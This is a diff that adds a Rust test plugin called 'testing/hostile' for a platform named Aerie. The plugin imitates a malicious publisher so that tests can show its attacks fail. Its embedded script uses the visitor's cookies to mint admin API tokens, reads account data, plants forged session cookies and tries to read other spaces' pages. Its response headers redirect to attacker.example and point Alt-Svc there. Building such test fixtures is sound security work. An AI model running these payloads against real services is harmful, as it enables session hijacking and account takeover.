@@ -1,0 +1,115 @@
+//! `testing/hostile`: a plugin that does what a hostile publisher would, so the tests can prove
+//! that none of it works.
+//!
+//! - `GET /page?api=URL&other=URL`: an HTML page whose script reads the cookies, calls Aerie's
+//!   API at `api` with the visitor's credentials (minting a token, reading the account), sets
+//!   Aerie's session cookie, and reads another space's plugin page at `other`; it writes what
+//!   it got into `<pre id="results">` as JSON.
+//! - `GET /set-cookie`: a response setting Aerie's session cookie, a cookie for the whole
+//!   parent domain, `Clear-Site-Data`, `Refresh` and `Alt-Svc`, and asking browsers to sniff.
+//! - `POST /items/{id}/delete` (admins only): answers `deleted ID`.
+//! - Anything else: echoes what arrived — method, path as received, query, headers — as JSON.
+
+use aerie_sdk::http::{Request, Response, Result};
+
+struct Hostile;
+
+const PAGE: &str = r#"<!doctype html>
+<html><head><title>hostile</title></head>
+<body><pre id="results">running</pre>
+<script>
+(async () => {
+  const query = new URLSearchParams(location.search);
+  const api = query.get("api");
+  const other = query.get("other");
+  const results = { origin: location.origin, cookies_before: document.cookie };
+  const attempt = async (name, run) => {
+    try { results[name] = await run(); } catch (err) { results[name] = "blocked: " + err; }
+  };
+  await attempt("mint_token", async () => {
+    const response = await fetch(api + "/api/v1/tokens", {
+      method: "POST", credentials: "include",
+      headers: { "X-Requested-With": "1", "Content-Type": "application/json" },
+      body: JSON.stringify({ name: "stolen", scopes: ["admin", "spaces"] }),
+    });
+    return "status " + response.status + ": " + await response.text();
+  });
+  await attempt("mint_token_simple", async () => {
+    const response = await fetch(api + "/api/v1/tokens", {
+      method: "POST", credentials: "include", mode: "no-cors",
+      headers: { "Content-Type": "text/plain" },
+      body: JSON.stringify({ name: "stolen-simple", scopes: ["admin"] }),
+    });
+    return "opaque " + response.type;
+  });
+  await attempt("read_account", async () => {
+    const response = await fetch(api + "/api/v1/me", { credentials: "include" });
+    return "status " + response.status + ": " + await response.text();
+  });
+  document.cookie = "aerie_session=planted-by-plugin; path=/";
+  document.cookie = "__Host-aerie_session=planted-by-plugin; path=/; secure";
+  document.cookie = "aerie_session=planted-by-plugin; domain=localhost; path=/";
+  results.cookies_after = document.cookie;
+  await attempt("read_other_space", async () => {
+    const response = await fetch(other, { credentials: "include" });
+    return "status " + response.status + ": " + await response.text();
+  });
+  await attempt("script_other_space", () => new Promise((resolve) => {
+    const frame = document.createElement("iframe");
+    frame.src = other;
+    frame.onload = () => {
+      try { resolve("read: " + frame.contentDocument.body.innerText); }
+      catch (err) { resolve("blocked: " + err); }
+    };
+    document.body.appendChild(frame);
+  }));
+  document.getElementById("results").textContent = JSON.stringify(results);
+})();
+</script></body></html>
+"#;
+
+impl aerie_sdk::Http for Hostile {
+    fn handle(request: Request) -> Result<Response> {
+        let path = request.path().to_string();
+        if path == "/page" {
+            return Ok(Response::new(200)
+                .with_header("content-type", "text/html; charset=utf-8")
+                .with_body(PAGE));
+        }
+        if path == "/set-cookie" {
+            return Ok(Response::text(200, "cookies set\n")
+                .with_header("set-cookie", "aerie_session=planted-by-plugin; Path=/api")
+                .with_header("set-cookie", "__Host-aerie_session=planted; Path=/; Secure")
+                .with_header("set-cookie", "aerie_plugin=forged; Path=/")
+                .with_header("set-cookie", "tenant=all; Domain=localhost; Path=/")
+                .with_header("set-cookie", "own=1; Path=/; HttpOnly")
+                .with_header("clear-site-data", "\"*\"")
+                .with_header("refresh", "0; url=https://attacker.example/")
+                .with_header("alt-svc", "h2=\"attacker.example:443\"")
+                .with_header("x-content-type-options", "sniff"));
+        }
+        if let Some(id) = path
+            .strip_prefix("/items/")
+            .and_then(|rest| rest.strip_suffix("/delete"))
+            .filter(|id| !id.contains('/'))
+        {
+            return Ok(Response::text(200, format!("deleted {id}\n")));
+        }
+        let headers: Vec<(String, String)> = request
+            .headers()
+            .iter()
+            .map(|(name, value)| (name.clone(), String::from_utf8_lossy(value).into_owned()))
+            .collect();
+        Ok(Response::json(
+            200,
+            &serde_json::json!({
+                "method": request.method().as_str(),
+                "path": path,
+                "query": request.query(),
+                "headers": headers,
+            }),
+        ))
+    }
+}
+
+aerie_sdk::export!(Hostile: http);
